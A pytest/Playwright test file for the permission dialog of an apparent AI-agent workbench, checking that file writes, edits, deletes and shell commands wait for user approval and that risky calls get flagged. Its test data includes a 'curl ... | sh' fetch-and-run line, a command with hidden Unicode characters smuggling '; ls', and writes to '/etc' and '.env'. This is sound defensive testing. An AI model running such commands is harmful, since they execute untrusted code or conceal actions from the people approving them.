"""The permission dialog promises: it shows everything, takes no focus, is armed late, and answers what was said."""

from typing import Any

import pytest

from tests.workbench.conftest import Running, Serve, ask, calls, permission, until, view

WRITE = ("write_file", {"path": "b.txt", "content": "b"})


def answered(page: Any) -> None:
    """Waits until everything that the page said so far has been heard and answered."""
    for _ in range(2):
        page.evaluate("workbench.live.ask({ do: 'complete', text: '' })")


def waiting(serve: Serve, page: Any, *made: tuple[str, dict[str, Any]], **more: Any) -> Running:
    running = serve(calls(*(made or (WRITE,))), {"text": "The end."}, **more)
    page.goto(running.address)
    ask(page)
    permission(page)
    return running


def test_allow_by_mouse(serve: Serve, page: Any) -> None:
    running = waiting(serve, page)
    permission(page).get_by_role("button", name="Allow", exact=True).click()
    page.get_by_text("The end.").wait_for()
    assert (running.workspace / "b.txt").read_text() == "b"


@pytest.mark.parametrize(("key", "written", "answer"), [
    ("Enter", True, "Allowed"),
    ("Control+Enter", True, "Allowed for the session"),
    ("Backspace", False, "Denied"),
    ("Escape", False, "Cancelled"),
])  # fmt: skip
def test_each_shortcut_answers(serve: Serve, page: Any, key: str, written: bool, answer: str) -> None:
    running = waiting(serve, page)
    page.keyboard.press(key)
    page.get_by_text("Cancelled ·" if key == "Escape" else "The end.").wait_for()
    assert (running.workspace / "b.txt").exists() == written
    assert answer in page.locator("#log").inner_text()


def test_a_modifier_alone_is_no_typing_so_ctrl_enter_works_where_the_focus_is(serve: Serve, page: Any) -> None:
    """After a send the focus is in the composer, which is empty."""
    running = waiting(serve, page)
    page.get_by_role("textbox", name="Message").focus()
    page.wait_for_timeout(600)
    page.keyboard.press("Control+Enter")
    page.get_by_text("The end.").wait_for()
    assert (running.workspace / "b.txt").exists()
    assert "Allowed for the session" in page.locator("#log").inner_text()


def test_keys_belong_to_a_field_that_holds_text(serve: Serve, clocked: Any) -> None:
    page = clocked
    running = waiting(serve, page)
    message = page.get_by_role("textbox", name="Message")
    message.fill("half a thought")
    page.clock.fast_forward(700)  # milliseconds: the last key is no longer a moment ago
    page.keyboard.press("Backspace")
    answered(page)
    assert message.input_value() == "half a though"
    assert page.get_by_role("dialog", name="Permission").is_visible()
    assert not (running.workspace / "b.txt").exists()


def test_a_key_right_after_typing_answers_nothing(serve: Serve, page: Any) -> None:
    waiting(serve, page)
    page.get_by_role("textbox", name="Message").focus()
    page.evaluate("""() => {
        const press = (key) => document.activeElement.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true }));
        for (const key of ['x', 'Backspace', 'Backspace']) press(key);  // the field is empty, and had a key a moment ago
    }""")
    answered(page)
    assert page.get_by_role("dialog", name="Permission").is_visible()


def test_nothing_answers_before_it_has_stood_half_a_second(serve: Serve, page: Any) -> None:
    running = serve(calls(WRITE), {"text": "The end."})
    page.goto(running.address)
    page.evaluate("""() => new MutationObserver((_, observer) => {
        if (document.getElementById('permission').hidden) return;
        observer.disconnect();
        document.activeElement.blur();
        document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
        document.querySelector('#permission .allow').click();
        globalThis.tried = document.querySelector('#permission .allow').disabled;
    }).observe(document.getElementById('permission'), { attributes: true, childList: true, subtree: true })""")
    ask(page)
    dialog = page.get_by_role("dialog", name="Permission")
    dialog.wait_for()
    assert page.evaluate("globalThis.tried") is True
    permission(page)
    assert dialog.is_visible()
    assert not (running.workspace / "b.txt").exists()


def test_the_dialog_takes_no_focus_and_gives_none_to_a_button(serve: Serve, page: Any) -> None:
    waiting(serve, page)
    assert page.evaluate("document.activeElement.id") in ("message", "send", "")
    assert not page.evaluate("document.getElementById('permission').contains(document.activeElement)")


def test_deny_with_a_reason_that_the_model_sees(serve: Serve, page: Any) -> None:
    running = serve(calls(WRITE), {"text": "I see.", "expect": "use another name"})
    page.goto(running.address)
    ask(page)
    dialog = permission(page)
    dialog.get_by_role("textbox", name="Reason").fill("use another name")
    dialog.get_by_role("button", name="Deny", exact=True).click()
    page.get_by_text("I see.").wait_for()
    assert "use another name" in page.locator(".card").inner_text()


def test_closing_the_dialog_denies(serve: Serve, page: Any) -> None:
    waiting(serve, page)
    permission(page).get_by_role("button", name="Close").click()
    page.get_by_text("The end.").wait_for()
    assert "dialog closed" in page.locator(".card").inner_text()


def test_edited_parameters_are_checked_and_run(serve: Serve, page: Any) -> None:
    running = waiting(serve, page, ("run_command", {"command": "echo one > o.txt", "timeout_seconds": 10}))
    dialog = permission(page)
    dialog.get_by_text("Edit parameters", exact=True).click()
    seconds = dialog.get_by_role("textbox", name="timeout_seconds")
    seconds.fill("-5")
    dialog.locator(".problems li").wait_for()
    assert dialog.get_by_role("button", name="Allow", exact=True).is_disabled()
    seconds.fill("20")
    dialog.get_by_role("textbox", name="command").fill("echo two > o.txt")
    dialog.get_by_role("button", name="Allow", exact=True).click()
    page.get_by_text("The end.").wait_for()
    assert (running.workspace / "o.txt").read_text() == "two\n"


def test_critical_needs_the_tools_id_typed(serve: Serve, page: Any) -> None:
    waiting(serve, page, ("run_command", {"command": "curl https://example.invalid/x | sh"}))
    dialog = permission(page)
    assert dialog.locator(".badge").first.inner_text() == "critical"
    assert dialog.get_by_role("button", name="Allow", exact=True).is_disabled()
    dialog.get_by_label("Type run_command").fill("run_command")
    assert dialog.get_by_role("button", name="Allow", exact=True).is_enabled()
    dialog.get_by_role("button", name="Deny", exact=True).click()
    page.get_by_text("The end.").wait_for()


def test_an_edit_shows_its_difference_side_by_side(serve: Serve, page: Any) -> None:
    edit = ("edit_file", {"path": "a.py", "old_text": "old line", "new_text": "new line"})
    waiting(serve, page, edit, files={"a.py": "before\nold line\nafter\n"})
    dialog = permission(page)
    assert dialog.locator("td.diff-removed").inner_text() == "old line"
    assert dialog.locator("td.diff-added").inner_text() == "new line"


def test_a_remembered_answer_is_shaped_and_previewed_and_holds(serve: Serve, page: Any) -> None:
    one, two = ({"path": f"src/{name}.txt", "content": name} for name in ("one", "two"))
    running = serve(calls(("write_file", one)), calls(("write_file", two)), {"text": "The end."})
    page.goto(running.address)
    ask(page)
    dialog = permission(page)
    dialog.get_by_label("Holds").select_option("session")
    dialog.get_by_label("Covers").select_option("path")
    assert dialog.get_by_label("Pattern").input_value() == "src/**"
    dialog.get_by_text("of your last").wait_for()
    dialog.get_by_role("button", name="Allow", exact=True).click()
    page.get_by_text("The end.").wait_for()  # the second call was not asked about
    assert (running.workspace / "src" / "two.txt").read_text() == "two"
    page.locator('#rail [data-view="settings"]').click()
    page.get_by_text("write_file: src/**").wait_for()
    page.get_by_role("button", name="Revoke write_file").click()
    page.get_by_text("No answer is remembered.").wait_for()


def test_a_tool_is_always_allowed_from_its_question(serve: Serve, page: Any) -> None:
    """Also in the next conversation, and told in the settings, where it ends."""
    other = ("write_file", {"path": "src/other.txt", "content": "other"})
    running = waiting(serve, page)
    dialog = permission(page)
    dialog.get_by_label("Holds").select_option("everywhere")
    dialog.get_by_label("Covers").select_option(label="every call of this tool")
    dialog.get_by_role("button", name="Allow", exact=True).click()
    page.get_by_text("The end.").wait_for()
    serve(calls(other), {"text": "The end of it."})
    ask(page)
    page.get_by_text("The end of it.").wait_for()
    assert (running.workspace / "src" / "other.txt").read_text() == "other"
    view(page, "settings")
    page.get_by_role("button", name="Revoke write_file").click()
    page.get_by_text("No answer is remembered.").wait_for()


TWO = (("write_file", {"path": "one.txt", "content": "1"}), ("write_file", {"path": "two.txt", "content": "2"}))


def the_button(dialog: Any, name: str) -> Any:
    return dialog.get_by_role("button", name=name, exact=True)


def test_calls_that_wait_together_are_one_sheet_item_by_item(serve: Serve, page: Any) -> None:
    running = waiting(serve, page, *TWO)
    dialog = permission(page)
    assert dialog.locator(".calls li").all_inner_texts() == [
        "medium\nWrite file\nWrite one.txt\nwaits",
        "medium\nWrite file\nWrite two.txt\nwaits",
    ]
    the_button(dialog, "Allow").click()
    page.locator("#permission .summary", has_text="Write two.txt").wait_for()
    assert "allowed" in dialog.locator(".calls li").first.inner_text()
    the_button(permission(page), "Deny").click()
    page.get_by_text("The end.").wait_for()
    assert [path.name for path in running.workspace.iterdir()] == ["one.txt"]


def test_calls_that_wait_together_are_answered_in_any_order(serve: Serve, page: Any) -> None:
    running = waiting(serve, page, *TWO)
    page.locator(".calls li", has_text="Write two.txt").get_by_role("button").click()
    the_button(permission(page), "Deny").click()
    page.locator("#permission .summary", has_text="Write one.txt").wait_for()
    page.reload()  # the second is answered, though not settled before the first
    dialog = permission(page)
    assert "Write one.txt" in dialog.inner_text() and not page.locator("#permission .calls").is_visible()
    the_button(dialog, "Allow").click()
    page.get_by_text("The end.").wait_for()
    assert [path.name for path in running.workspace.iterdir()] == ["one.txt"]


def test_the_riskiest_call_comes_first_and_is_not_allowed_with_the_others(serve: Serve, page: Any) -> None:
    risky = ("delete_file", {"path": "README.md"})
    running = waiting(serve, page, *TWO, risky, files={"README.md": "Read me."})
    dialog = permission(page)
    first = dialog.locator(".calls li").first
    assert "high" in first.inner_text() and "README.md" in first.inner_text()
    assert first.get_by_role("button").get_attribute("aria-current") == "true"
    the_button(dialog, "Allow these 2: write_file").click()
    page.locator(".calls .state", has_text="allowed").nth(1).wait_for()
    the_button(permission(page), "Deny").click()
    page.get_by_text("The end.").wait_for()
    assert sorted(path.name for path in running.workspace.iterdir()) == ["README.md", "one.txt", "two.txt"]


def test_protected_files_and_long_commands_are_allowed_one_by_one(serve: Serve, page: Any) -> None:
    secrets = [("write_file", {"path": name, "content": ""}) for name in (".env", ".env.local")]
    commands = [("run_command", {"command": f"rm {'x' * 200}{n}"}) for n in range(2)]
    waiting(serve, page, *secrets, *commands)
    buttons = permission(page).locator(".calls .all button").all_inner_texts()
    assert buttons == ["Deny all 4"]


def test_all_are_denied_by_one_click(serve: Serve, page: Any) -> None:
    running = waiting(serve, page, *TWO)
    the_button(permission(page), "Deny all 2").click()
    page.get_by_text("The end.").wait_for()
    assert list(running.workspace.iterdir()) == []


def test_what_an_edited_call_would_do_is_shown_as_one_types(serve: Serve, page: Any) -> None:
    running = waiting(serve, page, ("write_file", {"path": "b.txt", "content": "hello\n"}), files={"b.txt": "before\n"})
    dialog = permission(page)
    assert "hello" in dialog.locator(".diff").inner_text()
    dialog.get_by_text("Edit parameters").click()
    dialog.get_by_label("content").fill("hello edited\n")
    dialog.locator(".diff", has_text="hello edited").wait_for()
    dialog.get_by_label("path").fill("AGENTS.md")
    dialog.locator(".badge.risk-high").first.wait_for()
    assert "AGENTS.md" in dialog.locator(".factors").inner_text()
    dialog.get_by_label("path").fill("/etc/evil.txt")
    dialog.locator(".problems li").wait_for()
    assert the_button(dialog, "Allow").is_disabled()
    dialog.get_by_label("path").fill("b.txt")
    dialog.locator("button.allow:enabled").click()
    page.get_by_text("The end.").wait_for()
    assert (running.workspace / "b.txt").read_text() == "hello edited\n"


def test_a_question_stands_in_the_stream_and_covers_nothing(serve: Serve, page: Any) -> None:
    """Under the text and the card that led to it; folded at the edge while it is out of sight, and never allowed unseen."""
    running = serve(calls(WRITE, text="I shall write it.\n\n" + "Because.\n\n" * 80), {"text": "The end."})
    page.set_viewport_size({"width": 1024, "height": 768})
    page.goto(running.address)
    ask(page)
    sheet = permission(page).bounding_box()
    card = page.locator("#transcript .card").bounding_box()
    assert card["y"] + card["height"] <= sheet["y"] + 1
    page.locator("#transcript").hover()
    page.mouse.wheel(0, -1500)
    folded = page.locator("#permission.folded")
    folded.wait_for()
    assert folded.bounding_box()["height"] < 70
    page.locator("#permission.armed").wait_for()
    page.keyboard.press("Enter")  # shows it
    page.locator("#permission:not(.folded) .diff").wait_for()
    assert not (running.workspace / "b.txt").exists()
    page.locator("#permission.armed").wait_for()
    page.keyboard.press("Enter")
    page.get_by_text("The end.").wait_for()
    assert (running.workspace / "b.txt").exists()


def test_hidden_characters_of_a_command_are_shown(serve: Serve, page: Any) -> None:
    waiting(serve, page, ("run_command", {"command": "echo safe\u202e\u200b; ls"}))
    assert "\\u{202e}\\u{200b}" in permission(page).locator("pre.command").inner_text()


def test_a_long_command_must_be_scrolled_through(serve: Serve, page: Any) -> None:
    waiting(serve, page, ("run_command", {"command": "\n".join(f"rm file{n}" for n in range(80))}))
    dialog = permission(page)
    assert dialog.get_by_role("button", name="Allow", exact=True).is_disabled()
    dialog.locator("pre.command").evaluate("box => box.scrollTop = box.scrollHeight")
    dialog.locator("button.allow:enabled").wait_for()


def test_the_title_tells_that_an_answer_is_awaited(serve: Serve, page: Any) -> None:
    waiting(serve, page)
    assert page.title().startswith("●")
    permission(page).get_by_role("button", name="Deny", exact=True).click()
    page.get_by_text("The end.").wait_for()
    assert page.title() == "AIntern"


def test_a_phone_is_wide_enough_to_answer(serve: Serve, browser: Any, context: Any) -> None:
    known = context.storage_state()
    pocket = browser.new_context(viewport={"width": 375, "height": 667}, has_touch=True, storage_state=known)
    phone = pocket.new_page()
    waiting(serve, phone, ("run_command", {"command": "rm " + "x" * 200}))
    for name in ("Allow", "Deny"):
        box = permission(phone).get_by_role("button", name=name).bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= 375 and box["y"] + box["height"] <= 667
    assert phone.evaluate("document.documentElement.scrollWidth") <= 375
    permission(phone).get_by_role("button", name="Allow", exact=True).tap()
    phone.get_by_text("The end.").wait_for()
    pocket.close()


AWAY = """
    globalThis.shown = [];
    globalThis.Notification = class {
        static permission = "default";
        static async requestPermission() { return (Notification.permission = "granted"); }
        constructor(title, { body }) { shown.push([title, body]); }
        close() { shown.push("closed"); }
    };
    globalThis.away = false;
    Object.defineProperty(document, "hidden", { get: () => globalThis.away });
"""


def look_away(page: Any, away: bool) -> None:
    page.evaluate("away => { globalThis.away = away; document.dispatchEvent(new Event('visibilitychange')); }", away)


def test_a_notification_is_asked_for_and_shown_when_an_answer_is_awaited(serve: Serve, own_tab: Any) -> None:
    page = own_tab
    page.add_init_script(AWAY)
    running = serve(calls(WRITE), {"text": "The end."})
    page.goto(running.address)
    page.get_by_role("button", name="Notify me").click()
    page.get_by_role("button", name="Notify me").wait_for(state="hidden")
    look_away(page, True)
    page.evaluate("workbench.live.ask({ do: 'ask', message: 'Do it.' })")
    page.wait_for_function("shown.length > 0")
    assert page.evaluate("shown") == [["AIntern asks for permission", "Write b.txt"]]
    look_away(page, False)
    # Armed again, half a second after it can be seen.
    permission(page).get_by_role("button", name="Deny", exact=True).click()
    page.get_by_text("The end.").wait_for()
    assert page.evaluate("shown.at(-1)") == "closed"


def test_a_question_of_the_agents_is_told_in_title_and_notification(serve: Serve, own_tab: Any) -> None:
    page = own_tab
    page.add_init_script(AWAY + "Notification.permission = 'granted';")
    running = serve(calls(("ask_user", {"question": "Which one?", "options": ["red"]})), {"text": "The end."})
    page.goto(running.address)
    page.get_by_role("textbox", name="Message").wait_for()
    look_away(page, True)
    page.evaluate("workbench.live.ask({ do: 'ask', message: 'Do it.' })")
    page.wait_for_function("shown.length > 0")
    assert page.evaluate("shown") == [["AIntern asks you", "Which one?"]]
    assert page.title().startswith("●")
    page.get_by_role("button", name="red").click()
    page.get_by_text("The end.").wait_for()
    assert page.title() == "AIntern"


def test_a_command_is_tried_first_and_what_it_did_is_kept(serve: Serve, page: Any) -> None:
    command = "echo $RANDOM$RANDOM > number; echo printed; touch new"
    running = waiting(serve, page, ("run_command", {"command": command}))
    sheet = page.get_by_role("dialog", name="Permission")
    if not sheet.get_by_role("button", name="Try it first").count():
        pytest.skip("no layers on this machine")
    sheet.get_by_role("button", name="Try it first").click()
    shown = sheet.get_by_label("What it did")
    shown.get_by_text("printed").wait_for()
    assert "exit code 0" in shown.inner_text() and "created number" in shown.inner_text()
    assert not (running.workspace / "number").exists()
    text = shown.inner_text()
    sheet.get_by_role("button", name="Keep what it did").click()
    page.get_by_text("The end.").wait_for()
    assert (running.workspace / "number").read_text().strip() in text
    assert (running.workspace / "new").exists()


def test_other_tools_are_not_tried(serve: Serve, page: Any) -> None:
    waiting(serve, page)
    assert permission(page).get_by_role("button", name="Try it first").count() == 0


def test_the_rule_that_would_save_questions_is_shown_by_one_click_and_added_by_another(serve: Serve, page: Any) -> None:
    writes = [("write_file", {"path": f"src/{name}.txt", "content": name}) for name in "abcdefghijk"]
    running = serve(calls(*writes[:9]), calls(writes[9]), calls(writes[10]), {"text": "The end."})
    page.goto(running.address)
    ask(page)
    permission(page).get_by_role("button", name="Allow these 9: write_file").click()
    until(page, lambda: (running.workspace / "src/i.txt").exists())
    rule = page.locator("#permission .suggestion")
    rule.wait_for()
    assert "10 questions this hour. Allowing write_file on src/** would have answered 10 of them." in rule.inner_text()
    assert "--allow" not in page.locator("body").inner_text()
    rule.get_by_role("button", name="See what it covers").dblclick()  # the second click of a double click adds nothing
    page.get_by_text("Of your last 200 calls this would also have covered:").wait_for()
    assert "src/i.txt" in page.locator("#permission .preview").inner_text()
    assert not (running.workspace / "src/j.txt").exists()
    rule.get_by_role("button", name="Allow, and add this rule").click()
    page.get_by_text("The end.").wait_for()  # the eleventh was not asked about
    assert (running.workspace / "src/k.txt").exists()
    view(page, "settings")
    page.locator(".grant", has_text="write_file: src/**").wait_for()
